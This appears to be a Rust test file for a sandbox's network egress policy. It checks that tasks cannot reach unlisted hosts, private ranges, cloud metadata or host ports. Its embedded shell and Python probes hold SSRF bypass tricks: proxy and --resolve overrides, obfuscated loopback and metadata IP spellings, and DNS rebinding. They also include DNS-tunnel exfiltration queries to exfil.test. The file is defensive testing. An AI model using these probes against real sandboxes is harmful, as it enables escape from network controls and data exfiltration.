//! NW of the checks where a policy has egress: whatever is not named is not reached. A refusal counts only if the hosts
//! outside counted nobody.

use std::time::Duration;

use crate::support::netns::server::{Server, page};
use crate::support::netns::task::Tasks;
use crate::support::netns::{HOSTS, Net};

/// Servers that nobody may reach, on each address of the namespace and its own loopback, at these ports.
fn canaries(net: &Net, ports: &[u16]) -> Vec<Server> {
    let mut canaries = Vec::new();
    for address in HOSTS.iter().copied().chain(["127.0.0.1", "::1", "10.9.0.1", "169.254.169.254"]) {
        let address = if address.contains(':') { format!("[{address}]") } else { address.to_owned() };
        canaries.extend(ports.iter().map(|port| Server::stream(net, &format!("{address}:{port}"), |_| {})));
    }
    canaries
}

#[track_caller]
fn heard_nothing(canaries: &[Server]) {
    // A connection that is on its way arrives within this time.
    std::thread::sleep(Duration::from_millis(50));
    let heard: Vec<usize> = canaries.iter().map(Server::connections).collect();
    assert!(heard.iter().all(|it| *it == 0), "{heard:?}");
}

/// A namespace whose canaries can be reached from it.
fn guarded(ports: &[u16]) -> (Net, Vec<Server>) {
    let net = Net::new();
    net.add_address("10.9.0.1");
    net.add_address("169.254.169.254");
    let canaries = canaries(&net, ports);
    let probe = Server::stream(&net, "10.9.0.1:1", |_| {});
    net.enter(|| std::net::TcpStream::connect("10.9.0.1:1").unwrap());
    crate::support::aegis::eventually("the canary hears", Duration::from_secs(5), || {
        probe.connections() == 1
    });
    (net, canaries)
}

#[test]
fn nw_11_a_name_that_no_rule_has_is_refused_at_once_and_is_told_once() {
    let (net, canaries) = guarded(&[80, 443]);
    for name in ["allowed.test", "denied.test"] {
        net.dns.set(name, &["203.0.113.30", "2001:db8::10"]);
    }
    let tasks = Tasks::under(&net, &["allowed.test:443"]);
    let script = "now() { date +%s%N; }
        for command in 'curl -sS http://denied.test/' 'curl -sS https://denied.test/' 'curl -sS -6 https://denied.test/' \\
            'git ls-remote https://denied.test/x.git' 'getent ahosts denied.test'; do
            begun=$(now); $command >/dev/null 2>&1 && echo BREACH $command; echo refused in $(( ($(now) - begun) / 1000000 ))
        done";
    let ended = tasks.script(script);
    ended.code(0).no_breach().says("aegis: network: `denied.test` is not reached: no rule names it");
    assert_eq!(ended.stderr.matches("denied.test").count(), 1, "{ended:#?}");
    let times: Vec<u64> =
        ended.stdout.lines().filter_map(|it| it.strip_prefix("refused in ")?.parse().ok()).collect();
    assert_eq!(times.len(), 5, "{ended:#?}");
    assert!(times.iter().all(|it| *it < 1000), "{times:?}");
    assert_eq!(tasks.verdicts(), ["denied.test denied_name"]);
    assert_eq!(net.dns.asked(), [""; 0], "no query leaves for a name that does not exist");
    heard_nothing(&canaries);
}

#[test]
fn nw_12_no_setting_of_a_client_is_a_way_out() {
    let (net, canaries) = guarded(&[80, 443]);
    net.dns.set("allowed.test", &["203.0.113.10"]);
    let tasks = Tasks::under(&net, &["allowed.test:8443"]);
    let script = "for address in 203.0.113.10 203.0.113.30 '[2001:db8::10]' 10.9.0.1 169.254.169.254; do
            env -u http_proxy curl -sS -m 2 -g --noproxy '*' http://$address/ && echo BREACH $address
            NO_PROXY='*' ALL_PROXY= curl -sS -m 2 -k -g https://$address/ && echo BREACH $address
            curl -sS -m 2 -k -g --connect-to ::$address: https://allowed.test/ && echo BREACH connect-to $address
            curl -sS -m 2 -k --resolve allowed.test:443:${address//[\\[\\]]/} https://allowed.test/ && echo BREACH resolve
        done; exit 0";
    tasks.script(script).code(0).no_breach();
    assert_eq!(tasks.verdicts(), [""; 0], "what the kernel refuses is not claimed");
    heard_nothing(&canaries);
}

#[test]
fn nw_15_another_port_and_another_protocol_are_refused() {
    let (net, canaries) = guarded(&[22, 25, 80, 443, 8080]);
    net.dns.set("allowed.test", &["203.0.113.30"]);
    let tasks = Tasks::under(&net, &["allowed.test:443"]);
    let script = "python3 - <<'PY'
import socket
for port in (22, 25, 80, 8080):
    try: socket.create_connection(('allowed.test', port), 2); print('BREACH', port)
    except ConnectionRefusedError: print('refused', port)
for first in (b'GET / HTTP/1.1\\r\\n\\r\\n', b'SSH-2.0-x\\r\\n', b'\\0' * 64, b'\\x16\\x02\\x00'):
    s = socket.create_connection(('allowed.test', 443), 5); s.sendall(first)
    try: print('BREACH' if s.recv(1) else 'ended')
    except ConnectionResetError: print('reset')
PY";
    let ended = tasks.script(script);
    ended.code(0).no_breach();
    assert_eq!(ended.stdout.matches("refused").count(), 4, "{ended:#?}");
    assert_eq!(ended.stdout.matches("reset").count(), 4, "{ended:#?}");
    assert_eq!(tasks.verdicts(), ["allowed.test:443 denied_not_tls"]);
    heard_nothing(&canaries);
}

#[test]
fn a_tls_server_name_that_is_absent_or_another_is_refused() {
    let (net, canaries) = guarded(&[443]);
    net.dns.set("allowed.test", &["203.0.113.30"]);
    let tasks = Tasks::under(&net, &["allowed.test:443"]);
    let script = "for name in '-servername other.test' -noservername '-servername sub.allowed.test'; do
            timeout 5 openssl s_client -connect allowed.test:443 $name </dev/null >/dev/null 2>&1 && echo BREACH $name
        done; exit 0";
    tasks.script(script).code(0).no_breach();
    let expected =
        ["allowed.test:443 denied_server_name_absent", "allowed.test:443 denied_server_name_differs"];
    assert_eq!(tasks.verdicts(), expected);
    heard_nothing(&canaries);
}

#[test]
fn nw_17_an_allowed_name_that_leads_into_private_is_refused() {
    let (net, canaries) = guarded(&[443]);
    let answers = [
        "127.0.0.1",
        "10.9.0.1",
        "172.17.0.1",
        "192.168.0.1",
        "169.254.169.254",
        "100.100.100.200",
        "0.0.0.0",
        "224.0.0.1",
        "255.255.255.255",
        "::1",
        "::",
        "fd00:ec2::254",
        "fe80::1",
        "fec0::1",
        "ff02::1",
        "::ffff:10.9.0.1",
        "::ffff:127.0.0.1",
        "64:ff9b::7f00:1",
        "2002:7f00:1::1",
        "2001::1",
        "::127.0.0.1",
    ];
    let names: Vec<String> = (0..answers.len()).map(|it| format!("n{it}.test")).collect();
    for (name, answer) in names.iter().zip(answers) {
        net.dns.set(name, &[answer]);
    }
    let rules: Vec<String> = names.iter().map(|it| format!("{it}:443")).collect();
    let tasks = Tasks::under(&net, &rules.iter().map(String::as_str).collect::<Vec<_>>());
    let script = format!(
        "for name in {}; do curl -sSk -m 20 https://$name/ && echo BREACH $name; done; exit 0",
        names.join(" ")
    );
    tasks.script(&script).code(0).no_breach();
    let ledger = tasks.ledger();
    assert_eq!(ledger.len(), answers.len(), "{ledger:#?}");
    for (entry, answer) in ledger.iter().zip(answers) {
        assert_eq!(entry["verdict"], "denied_private_address", "{answer}: {entry}");
        let told: std::net::IpAddr = entry["address"].as_str().unwrap().parse().unwrap();
        assert_eq!(told, answer.parse::<std::net::IpAddr>().unwrap());
    }
    heard_nothing(&canaries);
}

#[test]
fn nw_17_a_rule_may_say_private_and_then_only_what_is_no_host_stays_out() {
    let net = Net::new();
    net.add_address("10.9.0.1");
    net.add_address("169.254.169.254");
    let metadata = Server::stream(&net, "169.254.169.254:443", |_| {});
    let tls = net.tls(&["inside.test"], &["http/1.1"]);
    let inside = Server::https(&net, "10.9.0.1:443", tls, |_| page("inside"));
    net.dns.set("inside.test", &["10.9.0.1"]);
    net.dns.set("meta.test", &["169.254.169.254"]);
    let rules = "[[network.allow]]\nhost = \"*\"\nports = [443]\nprivate = true\n";
    let ceiling = format!("[network]\negress = \"rules\"\n{rules}");
    let rules = rules.replace('*', "inside.test") + &rules.replace('*', "meta.test");
    let tasks = Tasks::with_policy(&net, net.aegis().with_ceiling(&ceiling), &rules);
    let script = "curl -sS https://inside.test/; curl -sSk https://meta.test/ && echo BREACH; exit 0";
    tasks.script(script).code(0).no_breach().prints("inside");
    assert_eq!((inside.connections(), metadata.connections()), (1, 0));
    assert_eq!(tasks.verdicts(), ["inside.test:443 allowed", "meta.test:443 denied_private_address"]);
}

#[test]
fn nw_18_an_address_in_any_spelling_is_no_name() {
    let (net, canaries) = guarded(&[80, 443]);
    let tasks = Tasks::under(&net, &["allowed.test:443"]);
    let script = "for host in 2130706433 0x7f.1 0177.0.0.1 127.1 '[::ffff:127.0.0.1]' '[::1%25lo]' 2852039166 0xa9fea9fe \\
            3405803790 0xcb.0.0x71.0x1e 203.0.113.30 '[::ffff:203.0.113.30]' '[64:ff9b::cb00:711e]'; do
            curl -sSk -m 2 -g https://$host/ && echo BREACH $host
            curl -sS -m 2 -g http://$host/ && echo BREACH $host
        done; exit 0";
    tasks.script(script).code(0).no_breach();
    heard_nothing(&canaries);
}

#[test]
fn a_name_that_changes_its_mind_is_judged_by_the_address_that_is_dialled() {
    let (net, canaries) = guarded(&[443]);
    net.add_address("203.0.113.40");
    let tls = net.tls(&["turn.test"], &["http/1.1"]);
    let public = Server::https(&net, "203.0.113.40:443", tls, |_| page("public"));
    // Each connection asks for A and for AAAA.
    let (public_answer, inside) = (["203.0.113.40"], ["127.0.0.1", "10.9.0.1"]);
    net.dns.set_in_turn("turn.test", &[&public_answer, &public_answer, &inside, &inside, &public_answer]);
    let tasks = Tasks::under(&net, &["turn.test:443"]);
    let script = "for i in 1 2 3; do curl -sS -m 20 https://turn.test/ || echo failed; done";
    tasks.script(script).prints("public").prints("failed");
    heard_nothing(&canaries);
    assert!(public.connections() >= 1);
    for entry in tasks.ledger() {
        let address = entry["address"].as_str().unwrap();
        assert_eq!(address == "203.0.113.40", entry["verdict"] == "allowed", "{entry}");
    }
}

#[test]
fn nw_25_nothing_of_the_tasks_leaves_by_the_resolver() {
    let net = Net::new();
    net.dns.set("allowed.test", &["203.0.113.10"]);
    let tasks = Tasks::under(&net, &["allowed.test:443", "*.wild.test:443"]);
    let script = "for i in 1 2 3; do getent hosts $(head -c 20 /proc/sys/kernel/random/uuid).$i.exfil.test; done
        python3 - <<'PY'
import socket, struct
for kind in (1, 16, 10, 255, 33):
    q = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b'\\x3f' + b'a' * 63 + b'\\5exfil\\4test' + struct.pack('>BHH', 0, kind, 1)
    s = socket.socket(2, 2); s.settimeout(5); s.sendto(q, ('127.0.0.1', 53)); print(s.recv(600)[3] & 15)
PY
        getent hosts allowed.test secret.wild.test; echo asked";
    let ended = tasks.script(script);
    ended.code(0).prints("3\n3\n3\n3\n3\n").prints("asked");
    assert_eq!(net.dns.asked(), [""; 0], "a name is resolved when it is connected to, and by the gateway");
}

#[test]
fn names_below_a_wildcard_are_few() {
    let net = Net::new();
    let tasks = Tasks::under(&net, &["*.wild.test:443"]);
    let script = "found=0; for i in $(seq 100); do getent hosts data$i.wild.test >/dev/null && found=$((found + 1)); done; echo found $found";
    tasks.script(script).code(0).prints("found 64\n");
    let refused = tasks.ledger();
    assert!(refused.iter().all(|it| it["verdict"] == "denied_bound"), "{refused:#?}");
    assert_eq!(net.dns.asked(), [""; 0]);
}

#[test]
fn nw_27_no_listener_of_the_host_is_reached() {
    let (net, canaries) = guarded(&[22, 53, 80, 2375, 5432]);
    net.dns.set("allowed.test", &["203.0.113.10"]);
    let tasks = Tasks::under(&net, &["allowed.test:443"]);
    let script = "python3 - <<'PY'
import socket
socket.getaddrinfo('allowed.test', 443)
for host in ('203.0.113.10', '10.9.0.1', '127.64.0.1', '127.64.0.2', '127.0.0.2', '::1', '::ffff:127.64.0.1', '2001:db8::10'):
    for port in (22, 80, 2375, 2376, 5432):
        s = socket.socket(10 if ':' in host else 2); s.settimeout(1)
        try: s.connect((host, port)); print('BREACH', host, port)
        except OSError: pass
print('tried')
PY";
    tasks.script(script).code(0).no_breach().prints("tried");
    heard_nothing(&canaries);
}
